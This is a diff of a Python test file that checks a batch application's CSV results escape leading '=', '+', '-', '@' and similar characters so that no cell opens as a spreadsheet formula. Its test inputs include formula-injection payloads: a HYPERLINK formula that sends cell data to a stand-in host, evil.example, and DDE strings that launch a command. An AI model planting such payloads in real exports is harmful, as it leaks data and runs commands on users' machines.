@@ -684,23 +684,54 @@ def test_started_batch_keeps_its_warnings() -> None:
 # ------------------------------------------------------------------------------------ the results
 
 
-def results(ids: list[str]) -> bytes:
-    """Return results.csv of a batch with these ids. Each row is canceled."""
+def results(ids: list[str], name: str = "results.csv") -> bytes:
+    """Return the results of a batch with these ids. Each row is canceled."""
     world = World()
     batch = running_batch(world, [{"prompt": "x", "id": row_id} for row_id in ids])
     world.batches.update(batch.batch_id, when=[batch.status], canceled_at=world.clock())
     world.app.collect_batch.run(batch.batch_id)
-    return world.batch_files.written[batch.batch_id, "results.csv"]
+    return world.batch_files.written[batch.batch_id, name]
 
 
 @pytest.mark.parametrize("row_id", [
     '=HYPERLINK("https://evil.example/?x="&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3",
-    "+1", "\tx", "\rx", "\uff1d1+1",
+    "+1", "-1", "\tx", "\rx", "\nx", "\uff1d1+1", " =1+1", "\u00a0=1", '"=1', "\ufeff=1",
 ])  # fmt: skip
 def test_cell_of_the_results_is_never_a_formula(row_id: str) -> None:
     _, row = csv.reader(io.StringIO(results([row_id]).decode("utf-8-sig"), newline=""))
 
     assert row[1] == f"'{row_id}"
+
+
+@pytest.mark.parametrize(
+    ("row_id", "cell"),
+    [
+        ("x;=cmd|' /C calc'!A0;y", "x;'=cmd|' /C calc'!A0;y"),
+        ("x; @SUM(1)", "x;' @SUM(1)"),
+        ('x;"=1+1"', 'x;\'"=1+1"'),
+        ("x\t=1", "x\t'=1"),
+        ("\t=1", "'\t'=1"),
+        ("x\n-1;+2", "x\n'-1;'+2"),
+        ("x\r\n=1", "x\r\n'=1"),
+        ("a=b; c-d, e@f.test; 5", "a=b; c-d, e@f.test; 5"),
+        ("'=1", "'=1"),
+    ],
+)
+def test_part_of_a_cell_is_no_formula_with_another_separator(row_id: str, cell: str) -> None:
+    """Excel splits at semicolons in many locales; LibreOffice offers semicolons and tabs."""
+    text = results([row_id]).decode("utf-8-sig")
+    _, row = csv.reader(io.StringIO(text, newline=""))
+
+    assert row[1] == cell
+    for delimiter in (";", "\t", "|"):
+        for line in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
+            assert not any(part.lstrip(' "').startswith(("=", "+", "-", "@")) for part in line)
+
+
+def test_results_in_jsonl_are_exact() -> None:
+    row_id = "=1;-2"
+
+    assert json.loads(results([row_id], "results.jsonl"))["id"] == row_id
 
 
 def test_results_open_with_umlauts_in_a_spreadsheet() -> None:
